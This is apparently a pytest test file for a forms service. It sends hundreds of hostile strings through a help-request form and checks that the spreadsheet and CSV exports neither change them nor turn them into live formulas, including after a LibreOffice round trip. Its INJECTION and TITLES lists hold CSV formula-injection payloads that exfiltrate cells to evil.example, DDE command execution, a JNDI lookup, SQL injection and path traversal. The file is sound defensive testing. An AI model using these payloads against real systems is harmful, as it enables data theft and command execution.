"""What is hard to carry goes in by the form's own door and comes out of every export unharmed, and harms nobody."""

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook
from starlette.testclient import TestClient

from forms_api.app import create_app
from forms_api.config import Settings
from forms_api.forms.tables import tidy
from forms_api.store import open_store

from . import cast
from .conftest import ROOT, Clock
from .test_export import column, with_personal

STORY = "Ceritakan singkat apa yang terjadi"
# The public list of 515 strings; its source and its licence (MIT) stand in the file.
NAUGHTY = json.loads((Path(__file__).parent / "naughty.json").read_text(encoding="utf-8"))["strings"]
INJECTION = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=1+1;=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "'=1+1", '"=1+1', "＝1+1", "＋1+1",
    '=HYPERLINK("http://evil.example";"klik")', "=cmd|'/c calc'!A1", '=WEBSERVICE("http://evil.example/"&A1)',
    "=IMPORTXML(CONCAT(\"http://evil.example\"; A1); \"//a\")", "-2+3+cmd|'/c calc'!A0", "+6281-1", "+62 812-1+1", "@A1",
    'x";=1+1;"y', 'x",=1+1,"y', "x;=1+1", "x,=1+1", "x\n=1+1", "x\ty", '"', '""', "'", ";", ",", "sep=;\n=1+1",
    "<r><t>x</t></r>", '<r></r></is></c><c r="Z9"><f>1+1</f><v>2</v></c><c t="inlineStr"><is><r></r>',
    "<r></is></c><c><f>1+1</f></c></r>", "_x003D_1+1", "_x000D_", "_x005F_x0041_", "]]>", "<![CDATA[=1+1]]>", "&#61;1+1", "&amp;",
    "<?xml version='1.0'?>", "\ufffe\uffff", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "{=1+1}", "[#This Row]", "#REF!", "#N/A", "TRUE",
    "1E5", "0012", "1/2", "2026-11-23", "12345678901234567890", "NULL", "None", "'; DROP TABLE help; --",
    "{{ 7*7 }}", "{% raw %}", "%(x)s", "{0}", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "a" * 3000,
]  # fmt: skip
TRIGGERS = tuple("=+-@\t\0\r\n＝＋－＠")
PHONE = re.compile(r"\+[0-9][0-9 ]{5,20}")
TEXTS = list(dict.fromkeys([*NAUGHTY, *INJECTION]))


@pytest.fixture(scope="module")
def files(office, tmp_path_factory) -> dict[str, bytes]:
    """Every kind of export of a hub to which all of them were sent, and ``kept``: what the form took, as it keeps it."""
    folder = tmp_path_factory.mktemp("naughty")
    shutil.copy(office.database, folder / "forms.sqlite")
    url = f"sqlite:///{folder / 'forms.sqlite'}"
    app = create_app(Settings(store_url=url, secure_cookies=False), Clock())
    kept = []
    for number, text in enumerate(TEXTS):
        sender = TestClient(app, base_url="http://hub.test", follow_redirects=False,
                            client=(f"10.0.{number // 250}.{number % 250}", 1))  # fmt: skip
        answer = sender.post("/forms/help", data=cast.help_request(story=text, token=f"{number:032x}"))
        assert answer.status_code == (303 if tidy(text) else 422), text
        kept += [tidy(text)] if tidy(text) else []
    office.hire(open_store(url), "budi", "id")
    budi = TestClient(app, base_url="http://hub.test", follow_redirects=False)
    office.sign_in(open_store(url), budi)
    found = {kind: with_personal(budi, kind) for kind in ("xlsx", "excel", "csv", "zip")}
    assert {answer.status_code for answer in found.values()} == {200}
    return {kind: answer.content for kind, answer in found.items()} | {"kept": sorted(kept)}


def told(sheet) -> list[str]:
    return sorted(cell.value for cell in column(sheet, STORY))


def formulas(content: bytes) -> int:
    """How many formulas a workbook has, looked for in its XML too."""
    bundle = zipfile.ZipFile(io.BytesIO(content))
    book = load_workbook(io.BytesIO(content))
    cells = sum(cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    return cells + sum(bundle.read(name).count(b"<f>") + bundle.read(name).count(b"<f ") for name in bundle.namelist())


def test_the_list_is_whole():
    assert len(NAUGHTY) == 515
    assert len(TEXTS) >= 570


def test_every_string_comes_out_of_excel_as_it_went_in_and_none_is_a_formula(files):
    assert formulas(files["xlsx"]) == 0
    # openpyxl reads inline text as it stands; Excel and LibreOffice undo the escapes of its writer
    book = load_workbook(io.BytesIO(files["xlsx"]))
    assert sorted(unescaped(text) for text in told(book.worksheets[0])) == files["kept"]


def unescaped(text: str) -> str:
    """Undo _xHHHH_ (ECMA-376 part 1, 22.9.2.19)."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


def test_every_string_comes_out_of_csv_and_package_exactly(files):
    rows = csv.DictReader(io.StringIO(files["csv"].decode(), newline=""))
    assert sorted(row["story"] for row in rows) == files["kept"]
    packed = zipfile.ZipFile(io.BytesIO(files["zip"])).read("help.csv")
    assert packed == files["csv"]


def test_in_the_csv_for_excel_no_cell_begins_like_a_formula_but_a_telephone_number(files):
    text = files["excel"].decode()
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    begin = [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]
    assert {cell for cell in begin if not PHONE.fullmatch(cell)} == set()
    place = rows[0].index(STORY)
    assert sorted(
        row[place].removeprefix("'") if row[place][1:].startswith(TRIGGERS) else row[place] for row in rows[1:]
    ) == sorted(
        each.removeprefix("'") if each[1:].startswith(TRIGGERS) and each.startswith("'") else each
        for each in files["kept"]
    )
    assert {len(row) for row in rows} == {len(rows[0])}


@pytest.fixture(scope="module")
def office_suite(tmp_path_factory):
    """``convert(name, content, to)`` through a real LibreOffice."""
    program = shutil.which("soffice")
    if not program:
        pytest.skip("NOT RUN: LibreOffice (soffice) is not here, so nobody has seen what it makes of the exports")
    folder = tmp_path_factory.mktemp("libreoffice")

    def convert(name: str, content: bytes, to: str, reading: str = "") -> bytes:
        (folder / name).write_bytes(content)
        command = [program, f"-env:UserInstallation=file://{folder}/profile", "--headless", *([f"--infilter={reading}"] if reading else []),
                   "--convert-to", to, "--outdir", str(folder / "out"), str(folder / name)]  # fmt: skip
        done = subprocess.run(command, capture_output=True, text=True, timeout=240)
        made = folder / "out" / (Path(name).stem + "." + to.split(":")[0])
        assert made.exists(), done.stdout + done.stderr
        return made.read_bytes()

    return convert


def test_through_libreoffice_nothing_of_the_workbook_is_evaluated_or_changed(files, office_suite):
    assert formulas(office_suite("help.xlsx", files["xlsx"], "xlsx")) == 0
    # the values as CSV, because LibreOffice's own XLSX writer alters a text like _x005F_x0041_
    content = office_suite("help.xlsx", files["xlsx"], "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true")
    rows = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert sorted(row[STORY] for row in rows) == files["kept"]


# Separator, quote, UTF-8, first line, formats, language, quoted is text, special numbers, …, evaluate formulas
# (LibreOffice's filter options). It asks a person, and its box for formulas is off; a script gets them evaluated.
READING = "CSV:{between},34,76,1,,0,false,true,false,false,false,1,{evaluate}"


@pytest.mark.parametrize(("kind", "between", "evaluate"), [("excel", 59, "true"), ("csv", 44, "false")])
def test_libreoffice_evaluates_nothing_in_a_csv(files, office_suite, kind, between, evaluate):
    content = office_suite(f"{kind}.csv", files[kind], "xlsx", READING.format(between=between, evaluate=evaluate))
    assert formulas(content) == 0
    assert load_workbook(io.BytesIO(content)).worksheets[0].max_row == len(files["kept"]) + 1


# A second regency's forms may be called anything: titles of forms name the sheets, titles of fields stand in row 1.
TITLES = ["=1+1", "=1+1", '=HYPERLINK("http://evil.example";"klik")', "'=cmd|'/c calc'!A1'", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1",
          "＝1+1", "<r><t>x</t></r>", "_x003D_1+1", "[Bahaya]/*?:", "History", "x" * 40, "{=1+1}"]  # fmt: skip


@pytest.fixture(scope="module")
def titled(office, tmp_path_factory) -> dict[str, bytes]:
    """A workbook and the CSV for Excel of a hub of which every form and every question has one of TITLES."""
    folder = tmp_path_factory.mktemp("titled")
    shutil.copy(office.database, folder / "forms.sqlite")
    shutil.copytree(ROOT / "data", folder / "data")
    model = yaml.safe_load((ROOT / "data" / "forms" / "mistake.yaml").read_text(encoding="utf-8"))
    for number, title in enumerate(TITLES):
        asked = [{"name": f"q{each}", "type": "string", "title": text, "title@en": text, "control": "text"}
                 for each, text in enumerate(TITLES)]  # fmt: skip
        form = model | {"name": f"odd{number}", "title": title, "title@en": title, "order": number - 99, "subject": "q0", "fields": asked}
        (folder / "data" / "forms" / f"odd{number}.yaml").write_text(yaml.safe_dump(form), encoding="utf-8")
    url = f"sqlite:///{folder / 'forms.sqlite'}"
    app = create_app(Settings(store_url=url, secure_cookies=False, data_dir=folder / "data"), Clock())
    budi = TestClient(app, base_url="http://hub.test", follow_redirects=False)
    for number in range(len(TITLES)):
        answer = budi.post(f"/forms/odd{number}", data={f"q{each}": f"{each}" for each in range(len(TITLES))})
        assert answer.status_code == 303
    office.hire(open_store(url), "budi", "id")
    office.sign_in(open_store(url), budi)
    found = {"xlsx": budi.get("/desk/export.xlsx"), "excel": budi.get("/desk/export.excel?form=odd0")}
    assert {answer.status_code for answer in found.values()} == {200}
    return {kind: answer.content for kind, answer in found.items()}


def heads(sheet) -> list[str]:
    """The titles of the questions in row 1, as they are read."""
    return [unescaped(cell.value) for cell in sheet[1]][-len(TITLES) :]


def test_headers_and_sheet_names_come_out_of_excel_as_they_were_written_and_are_no_formula(titled):
    assert formulas(titled["xlsx"]) == 0
    book = load_workbook(io.BytesIO(titled["xlsx"]))
    odd = book.worksheets[: len(TITLES)]
    assert [heads(sheet) for sheet in odd] == [TITLES] * len(TITLES)
    assert {cell.data_type for sheet in odd for cell in sheet[1]} == {"s"}
    assert book.sheetnames[:2] == ["=1+1", "=1+1 2"]
    assert len({name.lower() for name in book.sheetnames}) == len(book.sheetnames)
    assert [name for name in book.sheetnames if len(name) > 31 or set(name) & set("[]:*?/\\") or name.lower() == "history"] == []
    meanings = {unescaped(row[0].value): row[1].value for row in book.worksheets[-1].iter_rows(min_row=7)}
    assert set(TITLES) <= set(meanings)


def test_headers_of_the_csv_for_excel_are_no_formula(titled):
    row = next(csv.reader(io.StringIO(titled["excel"].decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [cell for cell in row if cell.startswith(TRIGGERS)] == []
    assert [cell.removeprefix("'") if cell[1:].startswith(TRIGGERS) else cell for cell in row[-len(TITLES) :]] == [
        title.removeprefix("'") if title[1:].startswith(TRIGGERS) and title.startswith("'") else title for title in TITLES
    ]


def test_through_libreoffice_no_header_and_no_sheet_name_is_evaluated_or_changed(titled, office_suite):
    made = office_suite("titled.xlsx", titled["xlsx"], "xlsx")
    assert formulas(made) == 0
    ours, theirs = (load_workbook(io.BytesIO(content)) for content in (titled["xlsx"], made))
    assert theirs.sheetnames == ours.sheetnames
    content = office_suite("titled.xlsx", titled["xlsx"], "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true")
    assert next(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[-len(TITLES) :] == TITLES
    made = office_suite("titled.csv", titled["excel"], "xlsx", READING.format(between=59, evaluate="true"))
    assert formulas(made) == 0
